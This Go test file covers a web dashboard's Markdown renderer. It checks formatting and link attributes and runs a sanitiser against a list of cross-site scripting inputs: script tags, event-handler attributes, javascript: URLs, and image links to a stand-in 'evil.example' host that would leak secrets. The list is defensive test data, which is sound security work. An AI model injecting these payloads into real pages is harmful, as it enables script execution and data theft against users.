package ui_test

import (
	"context"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"fleetboard/views/ui"
)

func markdown(t *testing.T, src string) string {
	t.Helper()
	var b strings.Builder
	if err := ui.Markdown(src).Render(context.Background(), &b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestMarkdownShows(t *testing.T) {
	for src, want := range map[string]string{
		"Make **it** `go`":                "<p>Make <strong>it</strong> <code>go</code></p>",
		"- one\n- two":                    "<ul>\n<li>one</li>\n<li>two</li>\n</ul>",
		"3. three":                        `<ol start="3">`,
		"```go\nx := 1\n```":              "<pre><code>x := 1",
		"~~old~~":                         "<del>old</del>",
		"| a | b |\n|---|---|\n| 1 | 2 |": "<td>1</td>",
		"1 < 2 & 3":                       "1 &lt; 2 &amp; 3",
	} {
		if got := markdown(t, src); !strings.Contains(got, want) {
			t.Errorf("%q gives %q, want %q in it", src, got, want)
		}
	}
	if !ui.Markdown(" \n\t").Empty() {
		t.Error("white space is not empty")
	}
}

func TestMarkdownLinks(t *testing.T) {
	got := markdown(t, "[ours](https://example.org/a?b=c&d) and <https://example.org>")
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(got))
	if err != nil {
		t.Fatal(err)
	}
	links := doc.Find("a[href]")
	if links.Length() != 2 {
		t.Fatalf("%d links in %q, want 2", links.Length(), got)
	}
	links.Each(func(_ int, a *goquery.Selection) {
		for _, word := range []string{"nofollow", "noopener", "ugc"} {
			if !strings.Contains(a.AttrOr("rel", ""), word) {
				t.Errorf("rel %q lacks %s", a.AttrOr("rel", ""), word)
			}
		}
	})
}

// What agents may try, and what must never reach a page.
func TestMarkdownIsSafe(t *testing.T) {
	for _, src := range []string{
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![x](https://evil.example/?secret)",
		"![x][r]\n\n[r]: https://evil.example/p.png", "<svg onload=alert(1)>", "<style>*{display:none}</style>",
		"<p style=\"color:red\" class=\"btn\" id=\"main\" data-card=\"1\" hx-get=\"/x\">t</p>", "<iframe src=//evil></iframe>",
		"[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](data:text/html,x)", "[a](//evil.example)",
		"[a](/logout)", "[a](http://plain.example)", "<a href=\"https://e\" onclick=\"x\">t</a>", "[a](vbscript:x)",
		"<form action=/logout><button>b</button></form>", "<base href=//evil>", "<meta http-equiv=refresh content=0>",
		"<hx-partial hx-target=\"body\"><b>x</b></hx-partial>", "<template hx type=partial>x</template>", "[x](<javascript:alert(1)>)",
		"<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<![CDATA[<script>alert(1)</script>]]>", "<!-- <script> -->",
		"[a](https://e \"t\" onmouseover=alert(1))", "<object data=x></object>", "<embed src=x>", "<input autofocus onfocus=alert(1)>",
		"| <script>a</script> |\n|---|\n| <img src=x> |", "# <img src=x>", "`<script>`", "&#60;script&#62;alert(1)&#60;/script&#62;",
	} {
		assertSafe(t, src, markdown(t, src))
	}
}

func assertSafe(t *testing.T, src, got string) {
	t.Helper()
	doc, err := goquery.NewDocumentFromReader(strings.NewReader("<body>" + got))
	if err != nil {
		t.Fatal(err)
	}
	doc.Find("body *").Each(func(_ int, el *goquery.Selection) {
		switch tag := goquery.NodeName(el); tag {
		case "script", "img", "svg", "style", "iframe", "form", "input", "button", "base", "meta", "object", "embed", "template", "hx-partial", "math":
			t.Errorf("%q leaves <%s> in %q", src, tag, got)
		}
		for _, a := range el.Nodes[0].Attr {
			ok := a.Key == "rel" || a.Key == "start" || a.Key == "href" && (strings.HasPrefix(a.Val, "https://") || strings.HasPrefix(a.Val, "mailto:"))
			if !ok {
				t.Errorf("%q leaves %s=%q in %q", src, a.Key, a.Val, got)
			}
		}
	})
}

func FuzzMarkdown(f *testing.F) {
	for _, s := range []string{"# a", "<script>", "[a](javascript:x)", "![x](y)", "- a\n  - b", "| a |\n|--|\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) { assertSafe(t, src, markdown(t, src)) })
}
